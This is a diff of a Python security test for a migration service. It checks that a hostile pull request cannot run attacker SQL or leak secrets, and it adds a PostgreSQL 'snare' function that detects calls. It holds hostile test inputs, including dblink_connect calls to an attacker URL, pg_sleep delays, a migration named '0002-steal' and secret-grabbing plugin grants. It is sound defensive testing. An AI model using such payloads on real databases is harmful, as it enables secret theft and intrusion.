@@ -178,7 +178,35 @@ def trap():
     trap.close()
 
 
-def test_a_hostile_pull_request_gets_nothing(hosted, github, follows, sqlite, postgres, trap):
+class Snare:
+    """A function of a database that leaves a file behind wherever it is called: also read-only, and when it is rolled back."""
+
+    def __init__(self, postgres):
+        self.files = f"{postgres.name}-came-by-"
+        self.postgres = postgres
+        postgres.execute(f"""CREATE FUNCTION snare(way text) RETURNS bigint LANGUAGE plpgsql AS $$ BEGIN
+            EXECUTE format('COPY (SELECT 1) TO %L', '{postgres.cluster.folder}/{self.files}' || way); RETURN 0; END $$""")
+
+    def call(self, way):
+        """SQL that falls into it."""
+        return f"snare('{way}')"
+
+    def caught(self):
+        """By which ways somebody fell into it."""
+        return {file.name.removeprefix(self.files) for file in self.postgres.cluster.folder.glob(f"{self.files}*")}
+
+
+@pytest.fixture
+def snare(postgres):
+    """An attacker's function."""
+    snare = Snare(postgres)
+    # It does notice.
+    postgres.execute(f"BEGIN READ ONLY; SELECT {snare.call('test')}; ROLLBACK")
+    assert snare.caught() == {"test"}
+    return snare
+
+
+def test_a_hostile_pull_request_gets_nothing(hosted, github, follows, sqlite, postgres, trap, snare):
     """It edits everything that it must not decide, and adds a migration that would use all of it."""
     project = hosted.project
     secret = Canary.hatch("a secret of the environment")
@@ -196,7 +224,7 @@ def test_a_hostile_pull_request_gets_nothing(hosted, github, follows, sqlite, po
     project.environment("dev", {
         "shop": {"url": evil, "username": "secret://env/SHOP_SECRET", "password": "secret://env/SHOP_SECRET"},
         "control": postgres.url,
-        "tenants": {"forEach": {"query": f"SELECT dblink_connect('{evil}'), pg_sleep(30)", "of": "control"},
+        "tenants": {"forEach": {"query": f"SELECT {snare.call('query')}::text AS name", "of": "control"},
                     "url": evil.replace("loot", "${name}")},
     }, policy={"apply": "Auto", "destructive": "Allow"}, branch="main")
     guest = project.folder / "plugins/backfill.wasm"
@@ -207,10 +235,13 @@ def test_a_hostile_pull_request_gets_nothing(hosted, github, follows, sqlite, po
         "path": "plugins/backfill.wasm", "digest": digest,
         "grants": {"http": [{"to": f"http://127.0.0.1:{trap.port}/*"}], "environment": ["SHOP_SECRET"], "clock": True},
     }, "evil": {"path": "plugins/backfill.wasm", "digest": digest}})
-    project.migration("0002-steal", "SELECT 1", {
+    project.migration("0002-steal", f"SELECT {snare.call('statement')}", {
         "uses": "backfill",
-        "with": {"table": "people", "key": "id", "set": f"x = '{evil}'", "where": "(SELECT pg_sleep(60)) IS NULL"},
-    }, checks={"before": [{"name": "leak", "query": f"SELECT dblink_connect('{evil}')", "equals": 0}]})
+        "with": {"table": "pg_class", "key": "oid", "set": f"x = {snare.call('set')}",
+                 "where": f"{snare.call('where')} IS NULL"},
+    }, database="control", checks={
+        when: [{"name": f"leak-{when}", "query": f"SELECT {snare.call(when)}", "equals": 0}] for when in ("before", "after")
+    })
     # The branch of its name is in the repository as well.
     commit = proposal.push()
     project.git("push", "--quiet", "--force", str(hosted.served.folder), "HEAD:refs/heads/change-7")
@@ -219,7 +250,8 @@ def test_a_hostile_pull_request_gets_nothing(hosted, github, follows, sqlite, po
     [comment] = eventually(lambda: github.ours(NUMBER), "it comments")
     # Base's databases, base's query, the plugin of the binary.
     assert "| `shop` | sqlite |" in comment and "| `tenants[one]` |" in comment and "uses `backfill`" in comment
-    assert trap.visits == 0
+    assert "| `control` | postgres" in comment
+    assert trap.visits == 0 and snare.caught() == {"test"}
     said = github.said()
     for canary, form, trace in traces([secret, github.token]):
         assert trace not in said.encode(), f"{canary} as {form}"
@@ -233,6 +265,7 @@ def test_a_hostile_pull_request_gets_nothing(hosted, github, follows, sqlite, po
     assert shown(github, commit, "failure") == "its migrations are wrong"
     eventually(lambda: "there is no plugin `evil`" in github.ours(NUMBER)[0], "it says so")
     assert trap.visits == 0 and sqlite.tables() == {"people"}
+    assert snare.caught() == {"test"}
     assert server.environment()["phase"] == "current"
     hosted.end(server, secret, github.token)
 
